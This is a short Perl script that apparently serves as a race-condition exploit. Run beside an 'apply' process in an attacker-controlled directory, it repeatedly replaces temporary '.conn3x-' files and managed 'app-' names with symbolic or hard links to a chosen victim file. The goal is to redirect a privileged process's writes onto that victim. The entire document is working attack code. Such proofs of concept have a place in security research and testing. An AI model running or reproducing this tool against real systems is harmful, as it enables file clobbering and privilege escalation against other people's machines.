# Runs beside an apply, in the attacker's directory: whatever appears there under a temporary name is turned to a link to the
# victim, and the managed names are turned to that and back without a pause.
# perl swap.pl DIRECTORY VICTIM SECONDS
use strict;
my ($directory, $victim, $seconds) = @ARGV;
chdir $directory or die;
my $end = time + $seconds;
while (time < $end) {
  opendir my $all, "." or die;
  for my $name (readdir $all) {
    if ($name =~ /^\.conn3x-/ && !-l $name) {
      rename $name, "taken" and symlink $victim, $name;
    } elsif ($name =~ /^app-/) {
      unlink $name;
      if (rand() < 0.5) { symlink $victim, $name } else { link $victim, $name }
    }
  }
  closedir $all;
}
